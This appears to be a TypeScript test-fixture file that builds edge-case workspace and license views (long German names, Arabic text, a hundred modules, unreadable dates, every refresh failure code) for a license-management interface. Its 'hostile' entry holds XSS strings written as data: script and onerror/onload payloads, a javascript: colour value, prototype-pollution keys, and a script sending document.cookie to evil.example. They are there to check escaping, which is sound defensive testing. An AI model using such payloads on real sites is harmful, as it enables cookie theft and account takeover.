import { deadline, failure, from, license, limit, modules, step, workspace } from "./preview-make";
import type { FailureCode, WorkspaceView } from "./types";

const end = from(8.4, "d");
const soon = deadline("expiry", end);
const hundred = Array.from({ length: 100 }, (_, index) => `vendor.module-${String(index + 1).padStart(3, "0")}`);

/** What no designer hopes for: long, right-to-left and hostile texts, rubbish dates, a hundred modules, two licenses. */
export const strange: WorkspaceView[] = [
  workspace({
    id: "hostile",
    name: `<img src=x onerror="document.title='broken'"><script>alert(1)</script>`,
    url: "https://chat.example/%3Cscript%3E",
    status: "expiring",
    attention: "soon",
    error: failure(
      "malformed",
      "expected `{` at line 1 column 1",
      `<h1>502 Bad Gateway</h1><script>fetch("https://evil.example/?"+document.cookie)</script>\u202Egnp.exe`,
    ),
    stale: true,
    fetched_at: from(-9, "h"),
    licenses: [
      license({
        plan: `<b style="position:fixed;inset:0">Plan</b>`,
        tags: [
          { name: `"><svg onload=alert(1)>`, color: null },
          { name: "Pale", color: "#FFFFFE" },
          { name: "Night", color: "#000001" },
        ],
        expires_at: end,
        modules: modules(["<i>module</i>", "constructor", "__proto__", "enterprise:*", "brand-new-module"]),
        limits: [
          limit("active_users", 130, 100),
          limit("guest_users", 90, 100),
          limit("rooms_per_guest", null, 3),
          limit("private_apps", 80, 100),
          limit("marketplace_apps", 0, 0),
          limit("monthly_active_contacts", null, null),
        ],
        limit_steps: [
          step("active_users", 0, "<u>summon_support</u>"),
          step("active_users", 100, "disable_modules", ["<i>module</i>", "constructor"]),
          step("active_users", 130, ""),
          step("active_users", 100_000, "disable_modules"),
          step("guest_users", 90, "allow_action"),
          step("rooms_per_guest", 3, "prevent_action"),
          step("marketplace_apps", 0, "prevent_action"),
          step("monthly_active_contacts", null, "invalidate_license"),
        ],
        granted_to: "مؤسسة النور <noor@example>",
        addresses: ["^https?:\\/\\/([a-z0-9-]+\\.)*example\\.(com|org)(:\\d+)?\\/?$".repeat(3)],
        remarks: [
          { kind: "unreadable_date", field: "information.notifyAdminsAt", value: "31st of Febtober" },
          { kind: "unreadable_color", field: "information.tags[0].color", value: "url(javascript:alert(1))" },
          { kind: "unreadable_field", field: "limits.activeUsers[1]", value: `{"max":"many"}` },
        ],
      }),
    ],
    next_deadline: soon,
  }),
  workspace({
    id: "long",
    name: "Bundesministerium für Donaudampfschifffahrtsgesellschaftsangelegenheiten Süd-West",
    url: "https://rocketchat.donaudampfschifffahrtsgesellschaft.verwaltung.sued-west.example/unter/ordner/team",
    status: "expiring",
    attention: "soon",
    licenses: [
      license({
        plan: "Enterprise Government Unlimited Disconnected Edition with Premium Support Package",
        tags: [{ name: "Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz", color: "#D6401A" }],
        expires_at: end,
        issued_at: from(-300, "d"),
        modules: modules(["auditing", "a-module-with-a-very-long-name-that-nobody-would-ever-have-given-to-a-module"]),
        limits: [limit("monthly_active_contacts", 123_456_789, 1_000_000_000), limit("active_users", 1, 1)],
        limit_steps: [
          step("monthly_active_contacts", 1_000_000_000, "disable_modules", [
            "a-module-with-a-very-long-name-that-nobody-would-ever-have-given-to-a-module",
            "auditing",
          ]),
          step("active_users", 1, "prevent_installation"),
        ],
      }),
    ],
    next_deadline: soon,
  }),
  workspace({
    id: "rtl",
    name: "شركة النور للاتصالات والخدمات",
    url: "https://chat.noor.example",
    status: "valid",
    attention: "calm",
    licenses: [
      license({ plan: "مؤسسة", tags: [{ name: "مؤسسة", color: "#0C8F8F" }], expires_at: from(420, "d") }),
      license({
        plan: "Omnichannel add-on",
        expires_at: from(1_100, "d"),
        modules: modules(["livechat-enterprise"]),
        offline: true,
      }),
    ],
    next_deadline: deadline("expiry", from(420, "d")),
  }),
  workspace({
    id: "hundred",
    name: "A hundred modules",
    licenses: [license({ plan: "", expires_at: from(600, "d"), modules: modules(hundred) })],
    next_deadline: deadline("expiry", from(600, "d")),
  }),
  workspace({
    id: "no-date",
    name: "No date at all",
    licenses: [
      license({
        plan: "Pro",
        remarks: [{ kind: "unreadable_expiry", field: "expiry", value: "next summer" }],
        modules: modules(["auditing"]),
      }),
    ],
  }),
  workspace({
    id: "forever",
    name: "Forever",
    licenses: [license({ plan: "Lifetime", limits: [limit("active_users", null, null)] })],
  }),
];

const codes: FailureCode[] = [
  "unreachable",
  "tls",
  "http_refused",
  "not_rocketchat",
  "unauthorized",
  "forbidden",
  "not_found",
  "rate_limited",
  "server",
  "too_large",
  "malformed",
  "redirected",
  "timeout",
  "credentials_missing",
  "vault",
  "storage",
  "internal",
];

/** One workspace for each way in which a refresh can fail. */
export const failing: WorkspaceView[] = codes.map((code) =>
  workspace({
    id: code,
    name: `Fails: ${code}`,
    status: "unknown",
    attention: "problem",
    fetched_at: null,
    server_version: null,
    error: failure(code, `recorded failure ${code}`, code === "server" ? "upstream connect error: 503" : null),
  }),
);
